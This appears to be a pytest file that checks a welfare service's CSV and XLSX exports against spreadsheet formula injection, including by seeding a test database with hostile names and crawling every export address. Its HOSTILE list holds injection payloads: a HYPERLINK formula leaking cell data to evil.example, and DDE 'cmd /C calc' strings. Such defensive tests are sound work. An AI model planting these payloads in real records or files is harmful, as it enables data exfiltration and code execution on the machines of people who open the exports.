"""Nothing that somebody wrote into a record is run by the spreadsheet of who opens an export.

Whatever in the code writes CSV or XLSX stands in WRITERS, with how it keeps text from being run; a
new one fails here until somebody has said so. Then each is given hostile cells and read back, and
all addresses are walked with hostile names in the release.
"""

from __future__ import annotations

import ast
import csv
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import psycopg
import pytest
from django.test import Client
from walking import Side, addresses, filled

ROOT = Path(__file__).parents[2] / "src" / "tangga"

ACTIVE = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)

ESCAPED, TEXT, OURS, AS_IT_IS = "escaped", "text cells", "words of ours", "as it is"
WRITERS = {
    # An apostrophe before a text that would be run, also where the sheet is saved as CSV.
    "web/sheets/book.py": ESCAPED,
    "web/journeys/visits/book_out.py": ESCAPED,
    "web/programmes/payment_file.py": ESCAPED,
    # Cells of text: a spreadsheet shows them. The rows go back to the engine as they were.
    "engine/xlsx.py": TEXT,
    "engine/quarantine_sheet.py": TEXT,
    # Codes, numbers, days and words of the pack: nobody outside the office writes into them.
    "engine/publish/open_tables.py": OURS,
    "engine/publish/plain.py": OURS,
    "engine/results.py": OURS,
    "engine/notices/register.py": OURS,
    "engine/welfare/applied_file.py": AS_IT_IS,
    # Read by the engine, or by programs: a changed value would be a wrong one.
    "engine/export.py": AS_IT_IS,
    "engine/plan_lines/write.py": AS_IT_IS,
    "engine/quarantine_book.py": AS_IT_IS,
    "web/overlay/returned_files.py": AS_IT_IS,
    # Into the database.
    "web/register/loading/schema.py": AS_IT_IS,
    # Invented people.
    "synthetic/office.py": AS_IT_IS,
    "synthetic/files.py": AS_IT_IS,
    "synthetic/workspace.py": AS_IT_IS,
    "web/example/distribution.py": AS_IT_IS,
}
CALLS = {"csv.writer", "csv.DictWriter", "xlsxwriter.Workbook", "openpyxl.Workbook"}
COPY = re.compile(r"FORMAT\s+csv|CSV, HEADER", re.IGNORECASE)


def _writes(tree: ast.AST) -> bool:
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and ast.unparse(node.func) in CALLS:
            return True
        if isinstance(node, ast.Constant) and isinstance(node.value, str):
            if COPY.search(node.value):
                return True
        elif isinstance(node, ast.Attribute) and node.attr in ("CSVWriter", "write_csv"):
            return True
    return False


def test_everything_that_writes_a_table_to_a_file_says_how_it_keeps_text_from_being_run() -> None:
    found = {
        file.relative_to(ROOT).as_posix()
        for file in ROOT.rglob("*.py")
        if _writes(ast.parse(file.read_text()))
    }
    assert found == set(WRITERS)


# --- One after the other -------------------------------------------------------------------------


def cells_of(content: bytes) -> Iterator[tuple[str, str]]:
    """Each cell of a workbook that holds text: (data type, text). A formula has the type `f`."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    yield cell.data_type, cell.value


def formulas_in(content: bytes) -> list[str]:
    """What a spreadsheet would work out: cells with a formula, links that are one."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        parts = {name: book.read(name).decode() for name in book.namelist()}
    sheets = [text for name, text in parts.items() if name.startswith("xl/worksheets/")]
    return [hit for text in sheets for hit in re.findall(r"<f[ >].*?</f>|<hyperlink ", text)]


def _web_book(tmp_path: Path) -> bytes:
    from tangga.web.sheets.book import Column, Head, write_book

    to = tmp_path / "book.xlsx"
    lines = [(one, one) for one in HOSTILE]
    head = Head(HOSTILE[0], lines, warning=HOSTILE[1], sheet=HOSTILE[2])
    columns = [Column(one, kind) for one, kind in zip(HOSTILE, KINDS, strict=True)]
    write_book(to, head, columns, [[one] * len(columns) for one in HOSTILE])
    return to.read_bytes()


KINDS = ("text", "number", "whole", "day", "number_text", "text")


def _visit_book(tmp_path: Path) -> bytes:
    from tangga.web.journeys.visits.book_out import Book, Writer
    from tangga.web.journeys.visits.sheet_rows import ASKED, FIXED, Asked

    rows = [[one] * len(FIXED) for one in HOSTILE]
    asked = [[one] * len(ASKED) for one in HOSTILE]
    keys = [Asked("F", "P", one, "") for one in HOSTILE]
    return Writer(Book("mark", HOSTILE[0], [], rows, asked, keys, "id")).write()


@pytest.mark.parametrize("make", [_web_book, _visit_book])
def test_a_workbook_of_the_service_runs_nothing_not_even_saved_as_csv(
    make: Any, tmp_path: Path
) -> None:
    content = make(tmp_path)
    cells = list(cells_of(content))
    assert formulas_in(content) == []
    assert {kind for kind, _ in cells} == {"s"}
    assert not [text for _, text in cells if text.startswith(ACTIVE)]
    assert sum(text.startswith("'") for _, text in cells) >= len(HOSTILE)


def test_a_payment_file_runs_nothing() -> None:
    from tangga.web.programmes.payment_file import _line

    (read,) = csv.reader([_line(list(HOSTILE))])
    assert [one[1:].replace("\r", "") for one in read] == [o.replace("\r", "") for o in HOSTILE]
    assert not [one for one in read if one.startswith(ACTIVE)]
    odd = ['a"b', "x,y", "satu\ndua", "biasa"]
    assert next(csv.reader(io.StringIO(_line(odd), newline=""))) == odd, "quoted as RFC 4180 says"


def test_workbooks_of_the_engine_hold_text_and_no_formula(tmp_path: Path) -> None:
    from tangga.engine import quarantine_sheet, xlsx

    to = tmp_path / "table.xlsx"
    kinds = ("VARCHAR", "BIGINT", "VARCHAR", "DATE", "VARCHAR", "VARCHAR")
    columns = [xlsx.Column(f"c{n}", "VARCHAR") for n, _ in enumerate(kinds)]
    xlsx.write(to, columns, [HOSTILE, HOSTILE[::-1]], mark=HOSTILE[0])
    held = tmp_path / "quarantine.xlsx"
    ours = ("_tangga_problem", "_tangga_row", "_tangga_source")
    about = quarantine_sheet.Sheet(own=HOSTILE[:3], why=ours[0], ours=ours, source=HOSTILE[0])
    rows = [quarantine_sheet.Held(tuple(HOSTILE))]
    quarantine_sheet.write(held, about, rows, HOSTILE[0])
    for file in (to, held):
        assert formulas_in(file.read_bytes()) == []
        kinds_of = {kind for kind, _ in cells_of(file.read_bytes())}
        assert kinds_of == {"s"}, file
    kept = {text.replace("_x000D_", "\r") for _, text in cells_of(to.read_bytes())}
    assert set(HOSTILE) <= kept, "as they were: they go back to the engine"


def test_the_register_of_letters_has_no_column_in_which_somebody_writes() -> None:
    from tangga.engine.notices.register import COLUMNS

    assert set(COLUMNS) == {
        "number", "date", "family_id", "person_id", "move", "takes_effect_on"
    }  # fmt: skip


# --- All addresses -------------------------------------------------------------------------------

POISON = """
UPDATE r_1.{table} SET {column} = (%s::text[])[1 + abs(hashtext({column})) %% 6] || ' ' || {column}
WHERE {column} IS NOT NULL AND {column} <> ''
"""
TEXTS = """
SELECT c.relname, a.attname FROM pg_class AS c JOIN pg_attribute AS a ON a.attrelid = c.oid
WHERE c.relnamespace = 'r_1'::regnamespace AND c.relkind = 'r' AND a.atttypid = 'text'::regtype
  AND NOT a.attisdropped AND c.relname NOT LIKE 'open%'
  AND a.attname IN ('name', 'address', 'head', 'head_name', 'street', 'note')
"""
WALKERS = (("operator_kabkota", "1811"), ("pendamping_rehsos", "1811"))


def poison(web: Any) -> int:
    """Every name and address of the release becomes hostile; how many columns."""
    with psycopg.connect(web.superuser_url, autocommit=True) as con:
        con.execute("SET session_replication_role = replica")
        found = con.execute(TEXTS).fetchall()
        for table, column in found:
            con.execute(POISON.format(table=table, column=column).encode(), [list(HOSTILE)])
    return len(found)


def tables_in(answer: Any) -> bytes | None:
    """The content of an answer that is opened with a spreadsheet."""
    kind = answer.headers.get("Content-Type", "")
    name = answer.headers.get("Content-Disposition", "")
    if answer.status_code != 200 or not re.search(r"csv|spreadsheetml|\.xlsx|\.csv", kind + name):
        return None
    return b"".join(answer) if answer.streaming else answer.content


def begins_actively(content: bytes) -> list[str]:
    """Cells that a spreadsheet would run; numbers are no text."""
    if content[:2] == b"PK":
        texts = [text for _, text in cells_of(content)] + formulas_in(content)
        return [one for one in texts if one.startswith((*ACTIVE, "<f", "<hyperlink"))]
    read = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    cells = [cell for row in read for cell in row if cell.startswith(ACTIVE)]
    return [cell for cell in cells if not re.fullmatch(r"-?\d+(\.\d+)?", cell)]


@pytest.mark.slow
def test_no_address_hands_out_a_cell_that_would_be_run(fresh_web: Any) -> None:
    assert poison(fresh_web) >= 3
    handed: dict[str, int] = {}
    for role, area in WALKERS:
        client, side = fresh_web.client(role, area), Side(fresh_web.superuser_url, area)
        side.users.update({"nobody": 999_999})
        pages = [one for one in addresses() if not one.route.startswith("api/")]
        for address in pages:
            for path, _ in filled(address, side, 60 if address.name.startswith("list") else 1):
                for answer in _answers(client, address, path):
                    content = tables_in(answer)
                    if content is None:
                        continue
                    assert begins_actively(content) == [], path
                    hostile = sum(content_has(content, one) for one in HOSTILE)
                    handed[address.name] = handed.get(address.name, 0) + hostile
    assert {"list_xlsx", "list_whole", "open_file", "counter_book"} <= set(handed), handed
    assert handed["list_xlsx"] and handed["list_whole"], "hostile names do stand in them"


def _answers(client: Any, address: Any, path: str) -> Iterator[Any]:
    yield client.get(path)
    if address.name == "list_whole":
        yield client.post(path, {"purpose": "entry", "reason": "Dicocokkan dengan berkas"})
    if address.name == "counter_book":
        yield client.get(path, {"berkas": "xlsx"})
    if address.name == "open_file":
        links = re.findall(r'href="([^"]+\.csv)"', Client().get("/terbuka/").content.decode())
        assert links
        yield from (client.get(link) for link in links)


def content_has(content: bytes, hostile: str) -> bool:
    """Whether the text is there, in whatever way it was made harmless."""
    if content[:2] != b"PK":
        return hostile in content.decode("utf-8-sig")
    return any(text.lstrip("'").startswith(hostile[:8]) for _, text in cells_of(content))
